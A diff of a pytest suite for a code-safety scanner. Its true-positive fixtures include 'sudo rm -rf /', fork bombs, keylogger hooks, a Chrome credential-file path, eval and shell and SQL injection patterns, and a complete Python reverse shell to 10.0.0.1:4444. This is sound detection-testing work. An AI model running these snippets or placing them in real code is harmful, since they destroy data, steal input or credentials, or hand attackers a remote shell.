@@ -19,8 +19,11 @@ def fenced(lang: str, code: str) -> str:
         ("bash", "sudo rm -rf /", "destructive-command"),
         ("bash", ":(){ :|:& };:", "fork-bomb"),
         ("python", "import os\nwhile True: os.fork()", "fork-bomb"),
-        ("python", "from pynput.keyboard import Listener\nwith Listener(on_press=log) as l:\n    l.join()",
-         "keylogger"),
+        (
+            "python",
+            "from pynput.keyboard import Listener\nwith Listener(on_press=log) as l:\n    l.join()",
+            "keylogger",
+        ),
         ("python", "from pynput import keyboard\nlistener = keyboard.Listener(on_press=on_press)", "keylogger"),
         ("c", "HHOOK h = SetWindowsHookEx(WH_KEYBOARD_LL, proc, inst, 0);", "keylogger"),
         ("python", "path = os.path.join(appdata, 'Google/Chrome/User Data/Default/Login Data')", "credential-theft"),
@@ -28,18 +31,17 @@ def fenced(lang: str, code: str) -> str:
         ("python", "result = eval(input('expr: '))", "eval-of-input"),
         ("javascript", "app.get('/calc', (req, res) => res.send(String(eval(req.query.expr))));", "eval-of-input"),
         ("php", "<?php eval($_GET['code']); ?>", "eval-of-input"),
-        ("python", "os.system(f\"ping -c 1 {host}\")", "shell-from-input"),
+        ("python", 'os.system(f"ping -c 1 {host}")', "shell-from-input"),
         ("python", "subprocess.run('convert ' + filename + ' out.png', shell=True)", "shell-from-input"),
         ("javascript", "child_process.exec(`ls ${req.query.dir}`)", "shell-from-input"),
-        ("python", "cur.execute(\"SELECT * FROM users WHERE name = '\" + name + \"'\")", "sql-concatenation"),
-        ("python", "cur.execute(f\"SELECT * FROM users WHERE id = {user_id}\")", "sql-concatenation"),
-        ("java", "String q = \"SELECT * FROM accounts WHERE id = \" + request.getParameter(\"id\");",
-         "sql-concatenation"),
+        ("python", 'cur.execute("SELECT * FROM users WHERE name = \'" + name + "\'")', "sql-concatenation"),
+        ("python", 'cur.execute(f"SELECT * FROM users WHERE id = {user_id}")', "sql-concatenation"),
+        ("java", 'String q = "SELECT * FROM accounts WHERE id = " + request.getParameter("id");', "sql-concatenation"),
         ("python", "requests.get(url, verify=False)", "tls-verification-disabled"),
         ("go", "tls.Config{InsecureSkipVerify: true}", "tls-verification-disabled"),
         ("javascript", "const agent = new https.Agent({ rejectUnauthorized: false });", "tls-verification-disabled"),
         ("python", "AWS_KEY = 'AKIAIOSFODNN7EXAMPLQ'", "hard-coded-secret"),
-        ("python", "db_password = \"s3cr3t-Pa55w0rd!\"", "hard-coded-secret"),
+        ("python", 'db_password = "s3cr3t-Pa55w0rd!"', "hard-coded-secret"),
     ],
 )
 def test_true_positives(lang: str, code: str, rule: str) -> None:
@@ -69,8 +71,10 @@ key = None
 
 
 def test_python_reverse_shell_block_rule() -> None:
-    code = ("import socket, os, subprocess\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n"
-            "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])")
+    code = (
+        "import socket, os, subprocess\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n"
+        "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])"
+    )
     findings = scan(fenced("python", code))
     assert any(f.rule == "reverse-shell" and f.severity == "high" for f in findings)
 
@@ -94,9 +98,9 @@ def test_line_numbers_point_into_the_answer() -> None:
         ("python", "requests.get(url, timeout=10)"),
         ("bash", "rm -rf ./build\nmkdir -p build && cd build && cmake .."),
         ("javascript", "const total = items.reduce((a, b) => a + b.price, 0);\nconsole.log(total);"),
-        ("go", "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hi\") }"),
+        ("go", 'package main\n\nimport "fmt"\n\nfunc main() { fmt.Println("hi") }'),
         ("sql", "SELECT name, COUNT(*) FROM orders GROUP BY name;"),
-        ("c", "#include <stdio.h>\nint main(void) { printf(\"hello\\n\"); return 0; }"),
+        ("c", '#include <stdio.h>\nint main(void) { printf("hello\\n"); return 0; }'),
     ],
 )
 def test_clean_code_has_no_findings(lang: str, code: str) -> None:
